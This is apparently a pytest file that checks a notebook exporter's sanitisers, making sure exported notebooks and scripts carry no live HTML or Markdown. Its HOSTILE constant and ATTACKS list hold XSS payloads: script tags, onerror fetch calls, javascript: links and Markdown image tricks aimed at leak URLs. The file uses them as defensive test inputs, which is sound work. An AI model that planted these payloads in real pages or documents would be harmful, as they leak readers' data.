"""An exported notebook carries no HTML that acts when it is opened (issue 18, F8): a
value whose HTML came from a file, and an answer that copied a tag or an image from
one, arrive as text; the tables the page shows still arrive as tables. Its Markdown,
and the script's, render nothing live under a real CommonMark renderer, whatever the
text (issue 32, E1): ``support.live_markdown`` is the judge."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reckon.agent import export_notebook, export_script
from reckon.agent.export._inert import safe_table_html
from reckon.agent.export._inert_markdown import inert_markdown
from reckon.kernel import Kernel as Session
from support import live_markdown, rendered

from .helpers import run

HOSTILE = (
    '<img src="http://127.0.0.1:9/leak?d=secret" onerror="fetch(\'http://127.0.0.1:9/\')">'
    "<script>fetch('http://127.0.0.1:9/x')</script>"
    '<table><tr><td onclick="steal()" style="background:url(http://127.0.0.1:9/c)">'
    "<a href='javascript:alert(1)'>Alice</a></td><td colspan=\"2\">42</td></tr></table>"
    "<iframe src='http://127.0.0.1:9/f'></iframe>"
)


def notebook_of(tmp_path: Path, code: str, answer: str) -> dict[str, Any]:
    """A one-question session whose one cell ran ``code`` in the real kernel."""
    session = Session(data_dir=str(tmp_path / "data"), output_dir=str(tmp_path / "output"))
    result = run(session.run(code))
    assert result["status"] == "ok", result
    step = {"kind": "code", "index": 0, "code": code, "result": result}
    transcript = {"asks": [{"question": "Who?", "steps": [step], "answer": answer}]}
    text = export_notebook(transcript)
    nbformat.validate(nbformat.reads(text, as_version=4))
    notebook: dict[str, Any] = json.loads(text)
    return notebook


def html_outputs(notebook: dict[str, Any]) -> list[str]:
    return [
        "".join(output["data"]["text/html"])
        for cell in notebook["cells"]
        for output in cell.get("outputs", [])
        if "text/html" in output.get("data", {})
    ]


def test_a_values_html_from_a_file_keeps_only_its_table(tmp_path: Path) -> None:
    code = f"class Shown:\n    def _repr_html_(self): return {HOSTILE!r}\nShown()"
    (html,) = html_outputs(notebook_of(tmp_path, code, "Alice."))
    lowered = html.lower()
    for active in ("<img", "<script", "<iframe", "<a ", "onclick", "onerror", "style", "http"):
        assert active not in lowered, html
    assert html.startswith('<table class="dataframe">') and "Alice" in html
    assert '<td colspan="2">42</td>' in html


def test_html_with_no_table_is_left_out_and_its_text_stays(tmp_path: Path) -> None:
    code = "class Shown:\n    def _repr_html_(self): return '<img src=x onerror=alert(1)>'\nShown()"
    notebook = notebook_of(tmp_path, code, "Done.")
    assert html_outputs(notebook) == []
    plain = [c for c in notebook["cells"] if c["cell_type"] == "code" and c["outputs"]]
    assert "Shown object" in "".join(plain[-1]["outputs"][0]["data"]["text/plain"])


def test_a_dataframe_arrives_as_the_table_the_page_shows(tmp_path: Path) -> None:
    code = "import pandas as pd\npd.DataFrame({'name': ['<b>Al</b>', 'Bo'], 'n': [1, 2]})"
    (html,) = html_outputs(notebook_of(tmp_path, code, "Two."))
    assert "<th>name</th>" in html and "<td>Bo</td>" in html
    assert "&lt;b&gt;Al&lt;/b&gt;" in html and "<b>" not in html  # pandas escaped it; so do we


def test_an_answer_that_copied_html_or_an_image_shows_them_as_text(tmp_path: Path) -> None:
    answer = (
        "The top name is **Alice** <img src='http://127.0.0.1:9/leak'>.\n"
        "![chart](http://127.0.0.1:9/leak?d=salaries)\n"
        "Computed with `df[df.n < 3]`:\n```python\nprint('<b>kept</b>')\n```\n"
    )
    notebook = notebook_of(tmp_path, "1 + 1", answer)
    markdown = "".join(notebook["cells"][-1]["source"])
    assert live_markdown(markdown) == []
    html = rendered(markdown)
    assert "&lt;img src='http://127.0.0.1:9/leak'&gt;" in html  # shown, as text
    assert "![chart](http://127.0.0.1:9/leak?d=salaries)" in html
    assert "<strong>Alice</strong>" in html and "<code>df[df.n &lt; 3]</code>" in html
    assert "print('&lt;b&gt;kept&lt;/b&gt;')" in html  # a code block stays one


def markdown_cells(transcript: dict[str, Any]) -> list[str]:
    """The Markdown of the exported notebook's cells and of the script's Markdown
    comments (as jupytext reads them: ``# `` taken off each line)."""
    notebook = json.loads(export_notebook(transcript))
    cells = ["".join(c["source"]) for c in notebook["cells"] if c["cell_type"] == "markdown"]
    for part in export_script(transcript).split("# %%")[1:]:
        head, _, body = part.partition("\n")
        if head.strip() == "[markdown]":
            cells.append("\n".join(line[2:] for line in body.splitlines()))
    return cells


def transcript_saying(text: str) -> dict[str, Any]:
    return {"asks": [{"question": text, "steps": [], "answer": text}]}


ATTACKS = [
    pytest.param("`` <img src=x onerror=alert(1)> `", id="mismatched-backtick-runs"),
    pytest.param("see `a\n# <img src=http://127.0.0.1:9/h>`", id="a-heading-cuts-a-code-span"),
    pytest.param("x `a\r<div onclick=steal()>\r` y", id="a-lone-carriage-return"),
    pytest.param("![al\nt](http://127.0.0.1:9/leak)", id="alt-text-over-two-lines"),
    pytest.param("![chart][r]\n\n[r]: http://127.0.0.1:9/leak", id="reference-style-image"),
    pytest.param("[x]\n\n[x]: http://127.0.0.1:9/leak 'title'", id="reference-style-link"),
    pytest.param("[![x](http://127.0.0.1:9/i)](http://127.0.0.1:9/l)", id="nested-brackets"),
    pytest.param("[a [b] c](http://127.0.0.1:9/leak)", id="brackets-in-link-text"),
    pytest.param("<http://127.0.0.1:9/leak> <mail@example.org>", id="autolinks"),
    pytest.param("&#60;img src=x&#62; [x](http&#58;//127.0.0.1:9/leak)", id="entities"),
    pytest.param("- item\n\n  ```\n<img src=x>\n  ```", id="a-fence-a-list-item-ends"),
    pytest.param("> ```\n<img src=x>\n```", id="a-fence-a-quote-ends"),
    pytest.param("```py\nok\n````\n<img src=y>", id="a-longer-closing-fence"),
    pytest.param("~~~\n<img>\n~~~~\n<img src=z>", id="a-tilde-fence"),
    pytest.param("<!--\n\n<img src=x>\n-->", id="an-html-comment"),
    pytest.param("   <div>\n<img src=x>", id="an-html-block"),
    # GitHub's renderer cuts a table row at a `|` inside a code span (markdown-it does not)
    pytest.param("| a | `b | <img src=x>` |\n|---|---|", id="a-gfm-table-cuts-a-code-span"),
    pytest.param("\\``code` <img src=x>", id="an-escaped-backtick"),
    pytest.param("\\<img src=x> \\\\<img src=y>", id="backslashes"),
    pytest.param("%% not a cell\n<img src=x>", id="a-script-cell-marker"),
    pytest.param("Title\n===\n<img src=x>\na\n---\n<div onclick=x>", id="setext-headings"),
    pytest.param("\t<img src=x>\n<img src=y>", id="indented-code-then-html"),
    pytest.param(
        "<?php x ?>\n<![CDATA[ y ]]>\n<!DOCTYPE html>\n<img src=x>", id="html-blocks-2-4-5"
    ),
    pytest.param(
        "[x]: <http://127.0.0.1:9/l>\n\n[x] [^1]\n\n[^1]: http://127.0.0.1:9/",
        id="angle-bracket-and-footnote-definitions",
    ),
    pytest.param("<HTTPS://127.0.0.1:9/x> <mailto:a@b.c> <irc://x/y>", id="autolink-schemes"),
    pytest.param("~~~~\n<img>\n~~~\n~~~~~\n<img src=z>", id="tilde-fences-of-three-lengths"),
    pytest.param("a\u2028<img src=x>\x00<img src=y>", id="a-line-separator-and-a-nul"),
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_markdown_of_an_export_renders_live(text: str) -> None:
    cells = markdown_cells(transcript_saying(text))
    assert len(cells) == 5  # title, question, answer; the script's question and answer
    for markdown in cells:
        assert live_markdown(markdown) == [], markdown


PIECES = [
    *("<img src=x>", "<div>", "<a href='x'>", "<!--", "-->", "<http://e>", "<", ">"),
    *("[", "]", "(", ")", "![", "](", "[r]: http://e", "!", "http://e/x", "www.e.org"),
    *("`", "``", "```", "~~~", "\n", "\n\n", "\r", "\t", " ", "    ", "- ", "> ", "1. "),
    *("\\", "&", "&#60;", "&lt;", "#", "*", "_", "|", "---", "a@b.co", "word", "'", '"'),
]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_no_text_made_of_markdowns_pieces_renders_live(text: str) -> None:
    for markdown in markdown_cells(transcript_saying(text)):
        assert live_markdown(markdown) == [], markdown


def test_what_a_person_reads_in_an_answer_stays_readable() -> None:
    answer = (
        "## Result\n\nThe **top region** is *East* with 73,400.50 (-12% on 2023):\n\n"
        "- computed with `df.groupby('region')['sales'].sum()`\n"
        "- see `a < b` and `` `x` ``\n\n"
        "```python\nprint(df[df.sales > 1_000])\n```\n\n"
        "| region | sales |\n|---|---|\n| East | 73,400.50 |\n"
    )
    (markdown,) = markdown_cells({"asks": [{"question": "q", "steps": [], "answer": answer}]})[2:3]
    html = rendered(markdown, "gfm")
    assert "<h2>Result</h2>" in html and "<strong>top region</strong>" in html
    assert "<em>East</em> with 73,400.50 (-12% on 2023)" in html
    assert "<code>df.groupby('region')['sales'].sum()</code>" in html
    assert "<code>a &lt; b</code>" in html and "<code>`x`</code>" in html
    assert '<pre><code class="language-python">print(df[df.sales &gt; 1_000])' in html
    assert "<td>East</td>" in html and "<td>73,400.50</td>" in html


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        pytest.param("<p>no table</p>", None, id="none"),
        pytest.param("<table><tr><td>1", '<table class="dataframe"><tr><td>1</td></tr></table>',
                     id="cut-off"),
        pytest.param("<table><tr><td>a</td></tr></table><table><tr><td>b</td></tr></table>",
                     '<table class="dataframe"><tr><td>a</td></tr></table>', id="first-only"),
        pytest.param("<table><tr><td><script>x<td>1</td></script>ok</td></tr></table>",
                     '<table class="dataframe"><tr><td>ok</td></tr></table>', id="script"),
        pytest.param('<table><tr><td rowspan="9999" colspan="x">v</td></tr></table>',
                     '<table class="dataframe"><tr><td>v</td></tr></table>', id="spans"),
    ],
)  # fmt: skip
def test_safe_table_html(html: str, expected: str | None) -> None:
    assert safe_table_html(html) == expected


def test_inert_markdown_keeps_fenced_code_as_written() -> None:
    text = "a <i>b</i>\n~~~\n<i>c</i>\n~~~\nd"
    assert inert_markdown(text) == "a &lt;i>b&lt;/i>\n\n```\n<i>c</i>\n```\nd"
